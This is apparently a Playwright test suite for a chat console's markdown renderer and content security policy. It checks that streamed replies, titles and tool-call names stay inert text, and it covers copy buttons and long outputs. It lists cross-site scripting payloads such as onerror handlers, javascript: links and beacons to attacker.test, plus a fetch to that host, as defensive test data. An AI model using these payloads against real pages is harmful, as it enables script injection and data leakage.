"""The built-in page: what it makes of the texts of models and people, harmful ones included."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import Request, Route, expect

from chatcore_memory import DONE_FRAME, PAUSE, token_frame
from tests.browser.console_page import ConsolePage
from tests.integration.entrypoints.chatcore_service.http_server import ALICE, LiveService

# Several times what a loaded machine takes to show half a megabyte.
_LONG_MILLISECONDS = 90_000

#: Each text would call `attacked()` or ask another host for something, if the page let it.
ATTACKS = (
    "<script>attacked()</script>",
    "<img src=x onerror=attacked()>",
    "<img src=https://attacker.test/seen>",
    "![seen](https://attacker.test/seen)",
    "<svg onload=attacked()><animate onbegin=attacked() attributeName=x></svg>",
    "<iframe srcdoc='<script>parent.attacked()</script>'></iframe>",
    "<a href='javascript:attacked()'>press</a> [press](javascript:attacked()) <javascript:attacked()>",
    "<form action='https://attacker.test'><input name=attributes><button>press</button></form>",
    "<style>@import 'https://attacker.test/css'; * { background: url(https://attacker.test/x) }</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=attacked()></style></mglyph></table></mtext></math>",
    "```html\n<img src=x onerror=attacked()>\n```",
    "```<img src=x onerror=attacked()>\ncode\n```",
    "<details open ontoggle=attacked()>x</details>",
    "<div id=message class=problem>looks like ours</div>",
    "$<img src=x onerror=attacked()>$ \\(<img src=x onerror=attacked()>\\)",
    "<link rel=stylesheet href=https://attacker.test/css><base href=https://attacker.test>",
    "<meta http-equiv=refresh content='0;url=https://attacker.test'>",
    "<video poster=https://attacker.test/x src=https://attacker.test/x></video><audio src=https://attacker.test/x>",
)
WATCH = "(() => { window.attacks = 0; window.attacked = () => { window.attacks += 1; }; })()"

RENDERED = """(() => {
  const place = document.createElement("div");
  place.append(module.rendered(argument));
  return place.innerHTML;
})()"""


async def require_unharmed(console: ConsolePage) -> None:
    links = await console.log.locator("a[href]").evaluate_all("(links) => links.map((link) => link.protocol)")
    assert set(links) <= {"https:", "http:", "mailto:"}
    assert await console.page.evaluate("window.attacks") == 0
    forbidden = "script, img, svg, iframe, form, style, link, base, meta, video, audio, math, [style], [id], [onclick]"
    assert await console.texts.locator(forbidden).count() == 0
    assert await console.texts.locator(".problem").count() == 0
    await expect(console.field).to_be_visible()


async def test_a_reply_can_do_no_harm_while_it_is_written_and_when_it_is_whole(
    console: ConsolePage, service: LiveService
) -> None:
    await console.page.evaluate(WATCH)
    for number, attack in enumerate(ATTACKS):
        half = len(attack) // 2
        service.inference.play(
            token_frame(f"Before {number}\n\n{attack[:half]}"),
            PAUSE,
            token_frame(f"{attack[half:]}\n\nAfter"),
            DONE_FRAME,
        )
        await console.send("Hello")
        await expect(console.texts.last).to_contain_text(f"Before {number}")
        await require_unharmed(console)
        service.inference.release()
        await expect(console.log).to_have_attribute("aria-busy", "false")
        await require_unharmed(console)

    # The policy also reports what it stops in the document in which the page takes a text apart.
    assert [error for error in console.tab.errors if "olicy" not in error] == []
    console.tab.errors.clear()


async def test_titles_messages_reasoning_and_data_are_text(console: ConsolePage, service: LiveService) -> None:
    await console.page.evaluate(WATCH)
    attack = "<img src=x onerror=attacked()><b>bold</b>"
    service.inference.play(
        b'data: {"reasoning":"<img src=x onerror=attacked()>"}\n\n',
        b'data: {"tool_calls":[{"function":{"name":"<img src=x onerror=attacked()>"}}]}\n\n',
        token_frame("Text"),
        DONE_FRAME,
    )
    await console.send(attack)

    await expect(console.titles).to_have_text([attack])
    await expect(console.asked).to_have_text([attack])
    await expect(console.page.get_by_role("heading", name=attack)).to_be_visible()
    await expect(console.replies.get_by_text("Used <img src=x onerror=attacked()>")).to_be_visible()
    await require_unharmed(console)


async def test_a_script_cannot_write_html_into_the_page(console: ConsolePage) -> None:
    written = await console.page.evaluate(
        "(() => { try { document.body.innerHTML = '<b>x</b>'; return true; } catch { return false; } })()"
    )

    assert written is False
    console.tab.errors.clear()


async def test_a_page_cannot_send_what_it_knows_to_another_host(console: ConsolePage) -> None:
    sent = await console.page.evaluate("fetch('https://attacker.test/').then(() => true, () => false)")

    assert sent is False
    assert any("connect-src" in error for error in console.tab.errors)
    console.tab.errors.clear()


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("**bold** and `code`", '<p dir="auto"><strong>bold</strong> and <code>code</code></p>\n'),
        ("one\ntwo", '<p dir="auto">one<br>two</p>\n'),
        ("H<sub>2</sub>O", '<p dir="auto">H<sub>2</sub>O</p>\n'),
        (
            "[link](https://a.test/x)",
            '<p dir="auto"><a href="https://a.test/x" target="_blank" rel="noopener noreferrer">link</a></p>\n',
        ),
        ("[here](/api/export)", '<p dir="auto"><a>here</a></p>\n'),
        ("It costs $5 and $10_000.", '<p dir="auto">It costs $5 and $10_000.</p>\n'),
        ("$a_1 * b_2 * c$", '<p dir="auto">$a_1 * b_2 * c$</p>\n'),
        ("Say \\(x_1 * y_1\\).", '<p dir="auto">Say \\(x_1 * y_1\\).</p>\n'),
        ("\\[x_1 * y_1\\]", '<p dir="auto">\\[x_1 * y_1\\]</p>\n'),
        ("$$\nx_1 * y\n\\frac{1}{2}\n$$", '<p dir="auto">$$\nx_1 * y\n\\frac{1}{2}\n$$</p>\n'),
        ("`$a_1$`", '<p dir="auto"><code>$a_1$</code></p>\n'),
    ],
)
async def test_markdown_becomes_what_people_expect(console: ConsolePage, source: str, expected: str) -> None:
    assert await console.evaluate("markdown/blocks.js", RENDERED, source) == expected


async def test_a_text_that_grows_ends_as_if_it_had_been_there_at_once(console: ConsolePage) -> None:
    source = (
        "# Title\r\n\r\nA *paragraph* with\nlines.\n\n- one\n- two\n\n  more of two\n\n1. a\n2. b\n\n"
        "```js\nconst x = 1;\n\nconst y = 2;\n```\n\n> quoted\n> more\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "See [it][1] and ~~that~~.\n\nSetext\n======\n\n[1]: https://a.test\n\n<details><summary>x</summary>\n\ny\n\n"
        "</details>\n\n~~~~ text\n```\n~~~\n\n  ~~~~\nAfter\n\n```\n```\n- a\n\n  ```py\n  in a list\n  ```\n\n"
        "A paragraph\n```\nnot closed\n``\n"
    )
    show = """(async () => {
      const show = async (texts) => {
        const element = document.createElement("markdown-text");
        element.growing = true;
        document.body.append(element);
        for (const text of texts) {
          element.text = text;
          await new Promise((resolve) => setTimeout(resolve, 1));
        }
        element.growing = false;
        await new Promise((resolve) => setTimeout(resolve, 500));
        element.remove();
        return element.textContent.replace(/\\s+/g, " ");
      };
      const prefixes = [...argument].map((_, index) => argument.slice(0, index + 1));
      return [await show(prefixes), await show([argument])];
    })()"""

    grown, at_once = await console.evaluate("markdown/markdown-text.js", show, source)
    assert grown == at_once
    assert "See it and that." in grown
    assert "textCopy``` ~~~ After textCopy a pyCopyin a list" in grown


@pytest.mark.parametrize(
    ("beginning", "end"),
    [
        ("Hel", "lo"),
        ("One\n\nA *para", "graph* in two\nlines.\n\nThree"),
        ("- one\n- t", "wo\n- three"),
        ("Code:\n\n```js\nconst a", " = 1;\nconst b = 2;\n```\nAfter"),
        ("```\na\n```", "\nAfter"),
    ],
)
@pytest.mark.parametrize("is_growing", [True, False])
async def test_a_text_that_was_whole_goes_on_where_it_ended(
    console: ConsolePage, beginning: str, end: str, *, is_growing: bool
) -> None:
    show = """(async () => {
      const [beginning, end, isGrowing] = argument;
      const whole = beginning + end;
      const make = () => document.body.appendChild(document.createElement("markdown-text"));
      const until = async (holds) => {
        for (let n = 0; n < 400 && !holds(); n += 1) await new Promise((resolve) => setTimeout(resolve, 50));
      };
      const shows = (element, text) => () => element.textContent.includes(/\\w+(?=\\W*$)/.exec(text)[0]);
      const atOnce = make();
      atOnce.text = whole;
      await until(shows(atOnce, whole));
      const continued = make();
      continued.text = beginning;
      await until(shows(continued, beginning));
      continued.growing = isGrowing;
      continued.text = whole;
      await until(shows(continued, whole));
      continued.growing = false;
      await until(() => continued.innerHTML === atOnce.innerHTML);
      return [continued.innerHTML, atOnce.innerHTML];
    })()"""

    continued, at_once = await console.evaluate("markdown/markdown-text.js", show, [beginning, end, is_growing])
    assert continued == at_once


async def line_to_be_shown(console: ConsolePage, number: int) -> None:
    """Returns when a line of a long text is shown; playwright's own search takes longer than the page does."""
    is_shown = "(line) => document.querySelector('markdown-text')?.textContent.includes(line)"
    await console.page.wait_for_function(is_shown, arg=f"Line {number} with", polling=100, timeout=_LONG_MILLISECONDS)


@pytest.mark.parametrize("kind", ["paragraphs", "code"])
async def test_a_reply_of_half_a_megabyte_is_shown_whole(console: ConsolePage, service: LiveService, kind: str) -> None:
    lines = [f"Line {number} with some **words** in it, and `code`, and more of it." for number in range(8000)]
    text = "\n\n".join(lines) if kind == "paragraphs" else "```\n" + "\n".join(lines) + "\n```"
    half = len(text) // 2
    service.inference.play(token_frame(text[:half]), PAUSE, token_frame(text[half:]), DONE_FRAME)
    await console.send("Hello")
    await line_to_be_shown(console, 3000)
    service.inference.release()
    await line_to_be_shown(console, 7999)
    streamed = await console.texts.inner_text()

    await console.page.reload()
    await line_to_be_shown(console, 7999)

    assert await console.texts.inner_text() == streamed
    assert len(await console.texts.locator("p").all()) == (8000 if kind == "paragraphs" else 0)


async def test_code_is_copied_and_its_language_is_shown(console: ConsolePage, service: LiveService) -> None:
    await console.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    service.inference.say("```python\nprint(1 < 2)\n```")
    await console.send("Hello")
    await expect(console.texts.locator(".hljs-built_in")).to_have_text("print")

    await console.button("Copy").click()

    await expect(console.button("Copied")).to_be_visible()
    assert await console.page.evaluate("navigator.clipboard.readText()") == "print(1 < 2)\n"
    await expect(console.texts.locator(".code-header")).to_contain_text("python")


async def test_a_reply_is_copied_as_it_was_written(console: ConsolePage, service: LiveService) -> None:
    await console.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    service.inference.say("Some **bold** words")
    await console.send("Hello")

    await console.button("Copy the reply").click()

    await expect(console.button("Copied")).to_be_visible()
    assert await console.page.evaluate("navigator.clipboard.readText()") == "Some **bold** words"
    await expect(console.button("Copy the reply")).to_be_visible()


async def test_what_a_text_needs_is_loaded_even_if_the_connection_breaks_once(
    console: ConsolePage, service: LiveService
) -> None:
    failed: list[str] = []

    async def fail_once(route: Route, request: Request) -> None:
        if request.url in failed:
            await route.continue_()
        else:
            failed.append(request.url)
            await route.abort()

    await console.page.route(re.compile(r"/markdown/(blocks|highlight)\.js$|/vendor/(remend|@highlightjs)/"), fail_once)
    service.inference.play(token_frame("```python\nprint(1)\n```\n\nSome **bold"), PAUSE, token_frame("**"), DONE_FRAME)
    await console.send("Hello")

    await expect(console.texts.locator(".hljs-built_in")).to_have_text("print")
    service.inference.release()

    await expect(console.texts.locator("strong")).to_have_text("bold")
    assert len(failed) == 5


async def test_a_user_sees_markup_as_typed(console: ConsolePage, service: LiveService) -> None:
    path = await service.conversation()
    await service.client.post(f"{path}/messages", json={"content": "**not bold**\n  indented"}, headers=ALICE)

    await console.load(f"#/c/{path.rpartition('/')[2]}")

    await expect(console.asked.locator("p")).to_have_text("**not bold**\n  indented", use_inner_text=True)
